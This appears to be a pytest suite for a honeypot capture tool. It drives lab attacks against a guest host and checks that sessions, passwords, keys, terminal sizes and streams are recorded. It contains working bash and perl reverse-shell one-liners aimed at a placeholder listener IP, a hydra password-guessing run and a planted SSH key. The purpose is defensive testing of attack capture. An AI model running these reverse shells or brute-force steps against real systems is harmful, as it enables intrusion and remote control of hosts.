# SPDX-License-Identifier: GPL-2.0-or-later
"""Sessions without a terminal, logins with their secrets, sizes of terminals: done by real clients, found in the record."""
import base64
import os
import re
import subprocess
import time

import pytest

from conftest import APACHE, as_root_in_guest, kill9, new_period, wait_for

ATTACKER, LISTENER = "198.51.100.66", "203.0.113.80"
USER, PASSWORD = "webadmin", "meridian1"
GUESSES = ["guess-1", 'quo"te\\', "p\u00e4ss", " ", "guess-5"]	# fewer than sshd takes in one connection
SSH = ("-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o IdentitiesOnly=yes "
       "-o NumberOfPasswordPrompts=1 -o ConnectTimeout=20")
BY_PASSWORD = "-o PreferredAuthentications=password -o PubkeyAuthentication=no"

# What is typed at a terminal: waits for each prompt. A new size shows the prompt again: what is there is taken first. Who asks
# for a secret throws away what was typed before he turns off the echo, which may be after he asked.
TERMINAL = r"""
set timeout 60
log_user 0
set stty_init "rows 24 columns 80"
proc ask {line prompt} { expect *; send -- "$line\r"; expect -re $prompt }
proc secret {line prompt} { after 500; ask $line $prompt }
spawn -noecho ssh -tt {*}[lindex $argv 0] webadmin@[lindex $argv 1]
expect "assword:"
secret meridian1 {\$ $}
sleep 1
exec stty rows 33 columns 101 < $spawn_out(slave,name)
sleep 1
ask "stty size" {\$ $}
ask "su" "assword:"
secret "not-the-root" {\$ $}
ask "su webadmin" "assword:"
secret meridian1 {\$ $}
ask "exit" {\$ $}
ask "sudo id" "assword for webadmin:"
secret "wrong-sudo" "assword for webadmin:"
after 500
send "\003"
expect -re {\$ $}
ask "script -qc 'echo within; id -un' /dev/null" {\$ $}
send "exit\r"
expect eof
"""

# A program that needs a password and has no terminal; bytes that get into a pipe without a write.
COMMANDS = ("cat; id -un; ls /not-there; echo abc | tr a-c x-z; echo meridian1 | su webadmin -c true; "
            "perl -e 'open F, q(</etc/hostname); syscall 40, 1, fileno F, 0, 99' | cat >/dev/null; "
            "perl -e 'print q(#) x 5996544' | wc -c")

REVERSE = {
    "bash": f"bash -c 'bash -i >& /dev/tcp/{LISTENER}/PORT 0>&1'",
    "perl": "perl -e 'use Socket; socket S, PF_INET, SOCK_STREAM, 6; connect S, sockaddr_in(PORT, inet_aton(q(" + LISTENER +
            "))) or die; open STDIN, q(<&S); open STDOUT, q(>&S); open STDERR, q(>&S); exec q(/bin/sh -i)'",
}


class Attacker:
    def __init__(self, skep, folder):
        self.skep = skep
        self.folder = folder
        self.sh = {}
        for word in (PASSWORD, "wrong-1"):
            self.sh[word] = os.path.join(folder, f"say-{word}")
            with open(self.sh[word], "w") as f:
                f.write(f"#!/bin/sh\necho {word}\n")
            os.chmod(self.sh[word], 0o755)

    def run(self, script, password=PASSWORD, timeout=120):
        """A shell script as the attacker; ssh is told @password."""
        r = self.skep.lab("env", f"SSH_ASKPASS={self.sh[password]}", "SSH_ASKPASS_REQUIRE=force", "sh", "-c", script,
                          check=False, timeout=timeout)
        return r.stdout + r.stderr

    def ssh(self, command, more=BY_PASSWORD, user=USER, before="", **kw):
        return self.run(f"{before} ssh {SSH} {more} {user}@{APACHE} \"$COMMAND\"".replace("\"$COMMAND\"", quoted(command)),
                        **kw)


def quoted(s):
    return "'" + s.replace("'", "'\\''") + "'"


def guess(a, words):
    """hydra tries each word once; meanwhile capture is killed again and again."""
    with open(os.path.join(a.folder, "words"), "w") as f:
        f.write("".join(f"{w}\n" for w in words))
    hydra = a.skep.start("lab", "exec", "--", "sh", "-c", f"cd {a.folder} && timeout 100 hydra -I -t 1 -l {USER} -P words "
                         f"ssh://{APACHE} </dev/null 2>&1", stdout=subprocess.PIPE)
    killed = 0
    while hydra.poll() is None:
        time.sleep(2)
        if killed < 3:
            kill9(a.skep.pid("capture"))
            killed += 1
    return killed, hydra.communicate()[0]


# Types a command into what connects to it, and when that is answered, another one.
LISTENER_PROGRAM = """
import socket, sys
s = socket.create_server((sys.argv[1], int(sys.argv[2])))
s.settimeout(60)
c, _ = s.accept()
c.settimeout(60)
c.sendall(b"echo so-$((6*7))\\n")
said = b""
while b"so-42" not in said:
    said += c.recv(4096)
c.sendall(b"exit 3\\n")
while more := c.recv(4096):
    said += more
sys.stdout.write(said.decode())
"""


def reverse_shell(a, name, port):
    listener = a.skep.start("lab", "exec", "--", "python3", "-c", LISTENER_PROGRAM, LISTENER, str(port),
                            stdout=subprocess.PIPE)
    a.ssh(REVERSE[name].replace("PORT", str(port)))
    return listener.communicate(timeout=90)[0]


@pytest.fixture(scope="module")
def done(skep, tmp_path_factory):
    """All of it is done once; what the tools said."""
    folder = str(tmp_path_factory.mktemp("attacker"))
    a = Attacker(skep, folder)
    said = {}
    with open(os.path.join(folder, "loot"), "w") as f:
        f.write("loot of the day\n" * 40)
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "", "-f", os.path.join(folder, "key")], check=True)
    key = open(os.path.join(folder, "key.pub")).read().split()
    said["command"] = a.ssh(COMMANDS, before="printf 'input of mine\\nand more\\n' |")
    said["scp"] = a.run(f"scp -O {SSH} {BY_PASSWORD} {folder}/loot {USER}@{APACHE}:/tmp/loot-1")
    said["sftp"] = a.run(f"echo 'put {folder}/loot /tmp/loot-2' | sftp -o BatchMode=no -b - {SSH} {BY_PASSWORD} {USER}@{APACHE}")
    said["killed"], said["hydra"] = guess(a, GUESSES + [PASSWORD])
    a.ssh("true", user="nobody-here", password="wrong-1")
    by_key = f"-i {folder}/key -o PreferredAuthentications=publickey"
    a.ssh("true", more=by_key)
    a.ssh(f"mkdir -p .ssh; echo {key[0]} {key[1]} >.ssh/authorized_keys; chmod -R go= .ssh")
    said["key"] = a.ssh("echo by-key", more=by_key)
    as_root_in_guest(skep, APACHE, "sed -i s/^KbdInter.*/KbdInteractiveAuthentication\\ yes/ /etc/ssh/sshd_config; "
                     "systemctl reload ssh")
    a.run(f"sleep 2; until nc -z {APACHE} 22; do sleep 0.5; done")
    dialogue = "-o PreferredAuthentications=keyboard-interactive -o PubkeyAuthentication=no"
    a.ssh("true", more=dialogue, password="wrong-1")
    said["dialogue"] = a.ssh("echo by-dialogue", more=dialogue)
    script = os.path.join(folder, "terminal.exp")
    with open(script, "w") as f:
        f.write(TERMINAL)
    said["terminal"] = skep.lab("expect", script, f"{SSH} {BY_PASSWORD}", APACHE, check=False, timeout=180).stdout
    new_period(skep)
    for port, name in enumerate(REVERSE, 4441):
        said[name] = reverse_shell(a, name, port)
    return {"said": said, "key": key}


def bytes_of(events, **want):
    """What the streams among the events with these values hold, in their order."""
    return b"".join(base64.b64decode(e["stream"]["bytes"]) for e in events
                    if all(e["stream"].get(k, "") == v for k, v in want.items()))


def streams_with(skep, text):
    """The streams of the session in which some stream holds @text."""
    def found():
        all_ = skep.events("--kind", "stream", "--honeypot", "Apache")
        for e in all_:
            if text.encode() in base64.b64decode(e["stream"]["bytes"]):
                return [x for x in all_ if x.get("session") == e["session"]]
        return None
    return wait_for(found, 20, 0.5)


def logins(skep, **want):
    return [r for r in skep.json("logins") if all(r[k] == v for k, v in want.items())]


def a_login(skep, **want):
    rows = wait_for(lambda: logins(skep, **want), 20, 0.5)
    assert all(r["src_ip"] == ATTACKER and r["session"] for r in rows)
    return rows


# --- a command without a terminal

def test_a_command_has_its_input_and_its_outputs(skep, done):
    events = streams_with(skep, "input of mine")
    assert bytes_of(events, role="input") == b"input of mine\nand more\n"
    out = bytes_of(events, role="output").decode()
    assert out.startswith("input of mine\nand more\nwebadmin\n") and "xyz\n" in out and "5996544\n" in out
    assert "/not-there" in bytes_of(events, role="error").decode()
    assert {e["src_ip"] for e in skep.json("sessions", "--all") if e["id"] == events[0]["session"]} == {ATTACKER}
    assert {e["process"]["name"] for e in events if e["stream"].get("role") == "input"} <= {"sshd", "bash"}


def test_programs_among_themselves_are_seen(skep, done):
    events = streams_with(skep, "input of mine")
    inner = [e for e in events if "role" not in e["stream"]]
    abc = [e for e in inner if base64.b64decode(e["stream"]["bytes"]) == b"abc\n"]
    assert len(abc) == 1 and abc[0]["stream"]["type"] == "pipe"


def test_what_gets_into_a_pipe_without_a_write_is_seen(skep, done):
    events = streams_with(skep, "input of mine")
    spliced = [e for e in events if "role" not in e["stream"] and e["process"]["name"] == "perl"]
    assert re.fullmatch(rb"[a-z0-9.-]+\n", base64.b64decode(spliced[0]["stream"]["bytes"]))


def test_a_stream_has_its_share_and_what_is_missing_is_counted(skep, done):
    events = [e for e in streams_with(skep, "input of mine") if e["process"]["name"] == "perl" and "role" not in e["stream"]]
    flood = [e for e in events if e["stream"]["id"] == events[-1]["stream"]["id"]]
    kept = sum(len(base64.b64decode(e["stream"]["bytes"])) for e in flood)
    assert 3_000_000 < kept < 4 << 20
    assert flood[-1]["stream"]["offset"] == 5996544 and flood[-1]["truncated"] and not flood[-1]["stream"]["bytes"]
    at = 0
    for e in flood[:-1]:
        assert e["stream"]["offset"] == at
        at += len(base64.b64decode(e["stream"]["bytes"]))


def test_session_and_replay_tell_it(skep, done):
    number = str(streams_with(skep, "input of mine")[0]["session"])
    told = skep.run("session", number).stdout
    assert "input: input of mine" in told and "output: webadmin" in told and "error: ls: cannot access" in told
    shown = skep.run("replay", number, "--no-wait").stdout
    assert "input of mine\n" in shown and "webadmin\n" in shown and "/not-there" in shown
    assert skep.run("replay", number, "--no-wait", "--input").stdout == "input of mine\nand more\n"


def test_scp_and_sftp_bring_their_bytes(skep, done):
    copies = wait_for(lambda: [e for e in skep.events("--kind", "stream", "--honeypot", "Apache")
                               if e["stream"].get("role") == "input" and
                               b"loot of the day\n" * 40 in base64.b64decode(e["stream"]["bytes"])], 20, 0.5)
    assert len(copies) == 2 and copies[0]["session"] != copies[1]["session"], done["said"]
    assert b"C0" in bytes_of([e for e in skep.events("--kind", "stream", "--session", str(copies[0]["session"]))],
                             role="input")


# --- logins

def test_passwords_tried_by_ssh(skep, done):
    """Each exactly once, though capture died three times meanwhile."""
    assert done["said"]["killed"] == 3 and "1 valid password found" in done["said"]["hydra"]
    a_login(skep, secret=GUESSES[-1])
    for word in GUESSES:
        assert [r["result"] for r in logins(skep, service="sshd", method="password", user=USER, secret=word)] == ["refused"]
    assert {r["result"] for r in logins(skep, service="sshd", user=USER, secret=PASSWORD)} == {"accepted"}
    assert not skep.events("--kind", "lost", "--honeypot", "Apache")
    assert a_login(skep, user="nobody-here", secret="wrong-1")[0]["result"] == "refused"


def test_keys_offered_to_ssh(skep, done):
    rows = a_login(skep, service="sshd", method="publickey", user=USER)
    assert [r["result"] for r in rows] == ["refused", "accepted"], done["said"]["key"]
    assert {r["secret"] for r in rows} == {f"{done['key'][0]} {done['key'][1]}"}


def test_passwords_in_a_dialogue_with_ssh(skep, done):
    rows = a_login(skep, method="keyboard-interactive")
    assert [(r["user"], r["secret"], r["result"]) for r in rows] == \
        [(USER, "wrong-1", "refused"), (USER, PASSWORD, "accepted")], done["said"]["dialogue"]


def test_su_and_sudo(skep, done):
    assert [r["result"] for r in a_login(skep, service="su", user="root", secret="not-the-root")] == ["refused"]
    by_su = a_login(skep, service="su", user=USER, secret=PASSWORD)
    assert [r["result"] for r in by_su] == ["accepted", "accepted"]
    assert by_su[0]["session"] != by_su[1]["session"]	# one without a terminal, one at it
    assert a_login(skep, service="sudo", secret="wrong-sudo")[0]["result"] == "refused"


def test_logins_are_counted(skep, done):
    rows = skep.json("logins", "--top", "pair")
    assert rows[0]["tries"] >= rows[-1]["tries"]
    pair = next(r for r in rows if (r["user"], r["secret"]) == (USER, PASSWORD))
    assert pair["accepted"] == pair["tries"] > 5
    one = a_login(skep, secret="not-the-root")[0]
    assert [r["secret"] for r in skep.json("logins", str(one["session"]))].count("not-the-root") == 1
    assert "not-the-root" in skep.run("logins").stdout


# --- terminals

def terminal_session(skep):
    return str(a_login(skep, secret="not-the-root")[0]["session"])


def test_a_terminal_tells_its_sizes(skep, done):
    sizes = [(e["tty"]["rows"], e["tty"]["columns"]) for e in skep.events("--kind", "window", "--session",
                                                                          terminal_session(skep))
             if e["tty"]["name"] == "pts/0"]
    assert (sizes[0], sizes[-1]) == ((24, 80), (33, 101))


def test_the_outermost_terminal_is_replayed_and_nothing_twice(skep, done):
    number = terminal_session(skep)
    r = skep.run("replay", number, "--no-wait")
    assert r.stdout.count("within\n") == 1 and "33 101" in r.stdout
    assert "pts/0" in r.stderr and "pts/1" in r.stderr
    assert "within" in skep.run("replay", number, "--no-wait", "--tty", "pts/1").stdout


# --- reverse shells

@pytest.mark.parametrize("name", REVERSE)
def test_a_reverse_shell_is_a_stream(skep, done, name):
    port = 4441 + list(REVERSE).index(name)
    assert "so-42" in done["said"][name]
    events = wait_for(lambda: [e for e in skep.events("--kind", "stream", "--honeypot", "Apache")
                               if e["stream"]["type"] == "tcp" and e["dest_port"] == port], 20, 0.5)
    assert {(e["src_ip"], e["dest_ip"]) for e in events} == {(APACHE, LISTENER)}
    assert bytes_of(events, role="input") == b"echo so-$((6*7))\nexit 3\n"
    assert b"so-42\n" in bytes_of(events, role="output")
    assert len({e["session"] for e in events}) == 1 and events[0]["session"]
    track = f"tcp/{events[0]['stream']['id']}"
    shown = skep.run("replay", str(events[0]["session"]), "--no-wait", "--tty", track).stdout
    assert "so-42\n" in shown and "exit 3" in shown


def test_sshd_itself_makes_no_streams(skep, done):
    """Its monitor's messages, its log and what it sends to the network are none."""
    own = [e for e in skep.events("--kind", "stream") if e["process"]["name"].startswith("sshd")]
    assert own and all(e["stream"].get("role") == "input" for e in own)
